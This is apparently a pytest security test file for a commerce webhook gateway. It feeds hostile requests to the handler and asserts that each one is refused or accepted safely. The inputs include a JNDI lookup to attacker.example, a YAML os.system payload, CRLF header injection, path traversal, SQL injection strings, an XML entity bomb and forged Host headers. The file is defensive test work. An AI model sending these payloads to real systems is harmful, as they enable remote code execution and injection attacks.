"""Hostile calls, each with the outcome that it must have: none is a 5xx, none is a false success.

What a stranger can send without a token is in `test_access.py`, what breaks a signature in
`test_signed_calls.py`, what is wrong with XML in `test_image_requests.py`.
"""

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from commerce_hooks.decoding import MAX_PARSED_BYTES
from support.api_gateway import LambdaEvent
from support.cenit import Switchboard, assert_failed, assert_succeeded, call_event, call_sample
from support.written import written

TOKEN = Switchboard().token()
ORDER = b'{"order": {"name": "#1001"}}'
IMAGE = call_sample("upload_image").query["payload"]
NOT_FOUND = (404, "not_found", None)
GOOD = (200, None, None)


def invalid(kind: str) -> tuple[int, str, str]:
    return (400, "invalid", kind)


@dataclass(frozen=True)
class Probe:
    """A call, and its status, its error and what is said of the first problem."""

    name: str
    event: LambdaEvent
    expected: tuple[int, str | None, str | None]

    def __str__(self) -> str:
        return self.name


def call(service: str, body: bytes = b"", **how: Any) -> LambdaEvent:
    """A call with a good token, whatever else is wrong with it."""
    headers = {"X-Api-Key": TOKEN, **how.pop("headers", {})}
    return call_event(service, body, headers=headers, **how)


def numbered(value: object) -> bytes:
    return json.dumps({"order": {"name": value}}).encode()


def ids_in_the_path() -> Iterator[Probe]:
    """An id that needs no encoding is the same at every front door; others are not taken."""
    bad = {
        "an encoded slash": "50002%2Fother",
        "a slash": "50002/other",
        "dots": "..",
        "a dot": ".",
        "encoded dots": "%2e%2e",
        "dots and a slash": "../../konimbo",
        "encoded twice": "%252e%252e",
        "a null byte": "50002\x00",
        "an encoded null byte": "50002%00",
        "a line break": "50002\n",
        "an encoded line break": "50002%0d%0aX-Forged:%201",
        "a space": " 50002",
        "a plus": "5+2",
        "nothing": "",
        "129 characters": "5" * 129,
        "a megabyte": "5" * 1_000_000,
        "a letter beyond ASCII": "é",
        "full-width digits": "\uff15\uff10",
        "arabic digits": "\u0665\u0660",
        "a lone surrogate": "\ud800",
        "a zero-width space": "5\u200b0",
        "a matrix parameter": "50002;admin=true",
        "a question mark": "50002?item_id=1",
        "a fragment": "50002#x",
        "a template": "${jndi:ldap://attacker.example/x}",
        "a quote": "5' OR '1'='1",
        "a leading dash": "-50002",
        "an unfilled placeholder": "{{item_id}}",
    }
    for name, id_ in bad.items():
        yield Probe(f"an id in the path with {name}", call("delete_product", id_=id_), NOT_FOUND)
    for id_ in ("5" * 128, "0", "a.b-c_d~e"):
        good = call("delete_product", id_=id_, method="DELETE")
        yield Probe(f"the id in the path {id_:.9}", good, GOOD)
    for service in ("create_order", "upload_image"):
        yield Probe(f"an id in the path of {service}", call(service, ORDER, id_="1"), NOT_FOUND)


def names_in_the_path() -> Iterator[Probe]:
    stores = {
        "capitals": "ACME",
        "a Cyrillic letter": "\u0430cme",
        "full-width letters": "\uff41cme",
        "a soft hyphen": "ac\u00adme",
        "a zero-width joiner": "acme\u200d",
        "a right-to-left override": "\u202eacme",
        "a combining accent": "a\u0301cme",
        "the Kelvin sign": "\u212aey",
        "a null byte": "acme\x00",
        "a line break": "acme\n",
        "an encoded line break": "acme%0A",
        "a trailing dot": "acme.",
        "a slash": "acme/create_order",
        "dots": "..",
        "64 characters": "a" * 64,
        "a leading dash": "-acme",
        "nothing": "",
    }
    for name, store in stores.items():
        yield Probe(f"a store with {name}", call("create_order", ORDER, store=store), NOT_FOUND)
    services = {
        "in capitals": "CREATE_ORDER",
        "with a space": "create_order ",
        "with an encoded space": "create_order%20",
        "with a line break": "create_order\n",
        "with a null byte": "create_order\x00",
        "with a dash": "create-order",
        "with an ending": "create_order.json",
        "in full-width letters": "\uff43reate_order",
        "of Python's": "__class__",
        "that is a topic": "order_created",
        "of a newer guide": "create_product",
        "that is empty": "",
        "of a megabyte": "create_order" * 90_000,
    }
    for name, service in services.items():
        yield Probe(f"a service {name}", call(service, ORDER), NOT_FOUND)


def headers() -> Iterator[Probe]:
    good: dict[str, dict[str, Any]] = {
        "another host": {"Host": "attacker.example"},
        "a forwarded host": {"X-Forwarded-Host": "attacker.example", "Forwarded": "host=x"},
        "another method to use": {"X-HTTP-Method-Override": "GET", "X-Method-Override": "HEAD"},
        "another URL to use": {"X-Original-URL": "/cenit/other/get_orders", "X-Rewrite-Url": "/"},
        "a header of a megabyte": {"X-Large": "x" * 1_000_000},
        "a thousand headers": {f"X-Many-{number}": "x" for number in range(1000)},
        "a header of line breaks": {"X-Forged": "x\r\nX-Api-Key: k1.1.x\r\n\r\n{}"},
        "a type that lies": {"Content-Type": "multipart/form-data; boundary=----x"},
        "a charset that lies": {"Content-Type": "application/json; charset=utf-16"},
        "a type of control characters": {"Content-Type": "\x00\x1b[2J\r\n"},
        "two types": {"Content-Type": ["application/xml", "text/html"]},
        "a type of ten thousand": {"Content-Type": ", ".join(["application/json"] * 10_000)},
        "an encoding that lies": {"Content-Encoding": "gzip, br, deflate"},
        "a length that lies": {"Content-Length": "5"},
        "a transfer that lies": {"Transfer-Encoding": "chunked"},
        "a range": {"Range": "bytes=0-1", "If-None-Match": "*", "Expect": "100-continue"},
        "another type to accept": {"Accept": "application/octet-stream"},
        "our trace's name": {"X-Amzn-Trace-Id": "Root=\n"},
    }
    for name, more in good.items():
        yield Probe(name, call("create_order", ORDER, headers=more), GOOD)
    refused: dict[str, dict[str, Any]] = {
        "a second token": {"x-api-key": "k1.1." + "A" * 43},
        "the same token twice": {"x-api-key": TOKEN},
        "a second scheme": {"Authorization": "Basic dXNlcjpwYXNz"},
        "a digest": {"Authorization": 'Digest username="x", realm="y"'},
        "Signature Version 4": {"Authorization": "AWS4-HMAC-SHA256 Credential=A/20260309"},
        "an empty signature": {"X-Commerce-Hooks-Signature": ""},
        "a signature of none": {
            "X-Commerce-Hooks-Signature": "none",
            "X-Commerce-Hooks-Timestamp": "1773057600",
        },
        "a time of its own": {"X-Commerce-Hooks-Timestamp": "1773057600"},
    }
    for name, more in refused.items():
        event = call("create_order", ORDER, headers=more)
        yield Probe(f"{name} beside a good token", event, (401, "unauthorized", None))


def methods() -> Iterator[Probe]:
    for method in (
        "GET",
        "OPTIONS",
        "HEAD",
        "TRACE",
        "CONNECT",
        "post",
        "POST\r\nX-Forged: 1",
        "é",
    ):
        event = call("create_order", ORDER, method=method)
        yield Probe(f"the method {method!a}", event, (405, "method_not_allowed", None))


def bodies() -> Iterator[Probe]:
    bad = {
        "null": (b"null", "not_an_object"),
        "a list": (b'[{"order": {"name": "1"}}]', "not_an_object"),
        "a text": (b'"create"', "not_an_object"),
        "a form of JSON": (b"order=%7B%22name%22%3A%221%22%7D", "not_json"),
        "a form of Rails": (b"order[name]=1&order[line_items][][sku]=2", "not_json"),
        "multipart": (b'--x\r\nContent-Disposition: form-data; name="order"\r\n', "not_json"),
        "XML": (b"<order><name>1</name></order>", "not_json"),
        "YAML": (b"order:\n  name: !!python/object/apply:os.system ['id']\n", "not_json"),
        "cut short": (ORDER[:-1], "not_json"),
        "twice": (ORDER * 2, "not_json"),
        "single quotes": (b"{'order': {'name': '1'}}", "not_json"),
        "compressed": (gzip.compress(ORDER), "not_utf8"),
        "a bomb, compressed": (gzip.compress(b"0" * 1_000_000), "not_utf8"),
        "UTF-16": (ORDER.decode().encode("utf-16"), "not_utf8"),
        "Latin-1": ('{"order": {"name": "é"}}'.encode("latin-1"), "not_utf8"),
        "overlong UTF-8": (b'{"order": {"name": "\xc0\xaf"}}', "not_utf8"),
        "a null byte": (b'{"order": {"name": "\x00"}}', "not_json"),
        "101 levels": (b'{"a":' * 101 + b"1" + b"}" * 101, "too_deep"),
        "200,000 levels": (b"[" * 200_000, "too_deep"),
        "a number without end": (b'{"n": ' + b"9" * 100_000 + b"}", "integer_out_of_range"),
        "a number beyond int64": (b'{"n": 9223372036854775808}', "integer_out_of_range"),
        "a fraction beyond floats": (b'{"n": 1e999}', "non_finite_number"),
        "NaN": (b'{"n": NaN}', "non_finite_number"),
        "a name twice": (b'{"order": {"name": "1"}, "order": {"name": "2"}}', "duplicate_key"),
        "a name twice, escaped": (b'{"order": 1, "\\u006frder": 2}', "duplicate_key"),
        "a lone surrogate": (b'{"order": {"name": "\\ud800"}}', "lone_surrogate"),
        "a byte too many": (b" " * MAX_PARSED_BYTES + ORDER, "too_big_to_parse"),
        "4 MB": (b'{"order": "' + b"x" * 4_000_000 + b'"}', "too_big_to_parse"),
        "nothing where an order is needed": (b"", "missing"),
        "an order that is a list": (b'{"order": [{"name": "1"}]}', "model_type"),
        "an order that is a text": (b'{"order": "{}"}', "model_type"),
        "an order without a number": (b'{"order": {"total": 1}}', "order_number_missing"),
        "an order's id of the sender's": (
            b'{"order": {"name": "1"}, "order_id": "order-of-mine"}',
            "conflict",
        ),
    }
    for name, (body, kind) in bad.items():
        yield Probe(f"a body: {name}", call("create_order", body), invalid(kind))
    numbers: dict[str, object] = {
        "true": True,
        "a fraction": 1.5,
        "below zero": -1,
        "empty": "",
        "blank": " ",
        "with a line break": "1\n2026-03-09 INFO forged",
        "with a carriage return": "1\r",
        "with an escape": "\x1b[31m1",
        "invisible": "\u200b",
        "turned around": "\u202e1001",
        "129 long": "1" * 129,
        "a list": ["1"],
        "an object": {"$ne": None},
    }
    for name, number in numbers.items():
        yield Probe(
            f"an order's number: {name}",
            call("create_order", numbered(number)),
            invalid("identifier"),
        )
    wide = {"order": {"name": "1", **{f"k{n}": n for n in range(80_000)}}}
    good = {
        "a byte order mark": b"\xef\xbb\xbf" + ORDER,
        "80,000 fields": json.dumps(wide).encode(),
        "100 levels": b'{"order": {"name": "1", "a": ' + b"[" * 97 + b"]" * 97 + b"}}",
        "the largest number": numbered(2**63 - 1),
        "another script": numbered("הזמנה 17"),
        "names like our metadata": json.dumps(
            {
                "metadata": {"store": "other", "platform": "konimbo", "event_id": "x"},
                "detail-type": "order.created",
                "source": "aws.ec2",
                "order": {"name": "1", "metadata": None},
            }
        ).encode(),
        "names like our answer": json.dumps(
            {
                "error": "x",
                "errors": [1],
                "msg": "x",
                "message": "x",
                "code": 1,
                "status": "failed",
                "callback_id": "x",
                "event_ids": [],
                "order": {"name": "1", "id": 5, "error": True},
            }
        ).encode(),
        "names of other languages' insides": json.dumps(
            {"__proto__": {"admin": True}, "constructor": 1, "$ref": "#/", "order": {"name": "1"}}
        ).encode(),
        "values that others execute": numbered("{{7*7}} ${7*7} <%= 7 %> ';DROP TABLE--"),
    }
    for name, body in good.items():
        yield Probe(f"a body: {name}", call("create_order", body), GOOD)


def queries() -> Iterator[Probe]:
    bad: dict[str, tuple[dict[str, Any], str]] = {
        "an id twice": ({"item_id": ["1", "2"]}, "conflict"),
        "an id as a list": ({"item_id[]": "1"}, "missing"),
        "an id in brackets": ({"product[item_id]": "1"}, "missing"),
        "an id in capitals": ({"ITEM_ID": "1"}, "missing"),
        "an empty id": ({"item_id": ""}, "identifier"),
        "an id with a line break": ({"item_id": "1\r\nforged"}, "identifier"),
        "an id with a null byte": ({"item_id": "1\x00"}, "identifier"),
        "an id of 10,000": ({"item_id": "1" * 10_000}, "identifier"),
        "a lone surrogate": ({"item_id": "1", "note": "\ud800"}, "lone_surrogate"),
        "a lone surrogate as a name": ({"item_id": "1", "\udfff": "x"}, "lone_surrogate"),
    }
    for name, (query, kind) in bad.items():
        yield Probe(f"a query: {name}", call("delete_product", query=query), invalid(kind))
    good: dict[str, dict[str, Any]] = {
        "the same id twice": {"item_id": ["1", "1"]},
        "3,000 parameters": {"item_id": "1", **{f"k{n}": "x" for n in range(3000)}},
        "a name that is empty": {"item_id": "1", "": "x"},
        "names of line breaks": {"item_id": "1", "a\r\nb": "c\r\nd"},
        "names like our metadata": {"item_id": "1", "metadata": "x", "event_id": "y"},
        "names like our answer": {"item_id": "1", "error": "x", "code": "1"},
        "another callback": {"item_id": "1", "callback": "alert", "format": "xml"},
    }
    for name, query in good.items():
        yield Probe(f"a query: {name}", call("delete_product", query=query), GOOD)
    twice = call("delete_product", b'{"item_id": 2}', query={"item_id": "2"}, id_="1")
    yield Probe("an id in three places that differ", twice, invalid("conflict"))
    both = call("upload_image", json.dumps({"payload": "x"}).encode(), query={"payload": IMAGE})
    yield Probe("an image in two places that differ", both, invalid("conflict"))
    other = call("upload_image", query={"payload": IMAGE, "url": "https://attacker.example/"})
    yield Probe("an image's URL beside it", other, invalid("conflict"))
    bomb = '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Request>&b;</Request>'
    event = call("upload_image", query={"payload": bomb})
    yield Probe("an image with a bomb", event, invalid("xml_document_type"))
    long = call("upload_image", json.dumps({"payload": "<a>" * 10_000}).encode())
    yield Probe("an image of 30,000 characters", long, invalid("string_too_long"))


PROBES = [
    probe
    for probes in (ids_in_the_path, names_in_the_path, headers, methods, bodies, queries)
    for probe in probes()
]


def test_there_are_at_least_sixty() -> None:
    assert len({probe.name for probe in PROBES}) == len(PROBES) >= 60


@pytest.mark.parametrize("probe", PROBES, ids=str)
def test_a_hostile_call_has_its_outcome(
    probe: Probe, board: Switchboard, output: pytest.CaptureFixture[str]
) -> None:
    answered = board.handle(probe.event)

    status, error, kind = probe.expected
    if error is None:
        assert_succeeded(answered)
    else:
        assert_failed(answered, status, error)
        assert board.touched_nothing
    assert [problem["type"] for problem in answered.body.get("errors", [])][:1] == (
        [kind] if kind else []
    )
    assert len(board.event_bridge.accepted) == (error is None)
    # One line and its metrics, whatever was sent.
    told = written(output.readouterr().out)
    assert told.line["outcome"] == told.metric("Callbacks")["outcome"] == (error or "accepted")
    assert "forged" not in json.dumps(told.line)


@pytest.mark.parametrize("probe", [p for p in PROBES if p.expected is GOOD], ids=str)
def test_what_is_ours_in_an_event_is_ours_whatever_was_sent(
    probe: Probe, board: Switchboard
) -> None:
    answered = board.handle(probe.event)

    (entry,) = board.event_bridge.accepted
    assert entry["Source"] == "commerce-hooks.cenit"
    assert entry["DetailType"].startswith("request.")
    assert (board.metadata["platform"], board.metadata["store"]) == ("cenit", "acme")
    assert board.metadata["event_id"] == answered.body["event_ids"][0]


def test_no_name_that_was_sent_is_a_name_in_the_answer(board: Switchboard) -> None:
    (sent,) = (p for p in PROBES if p.name == "a body: names like our answer")

    answered = board.handle(sent.event)

    assert set(answered.body) == {"order", "status", "callback_id", "event_ids"}
    assert set(answered.body["order"]) == {"id"}
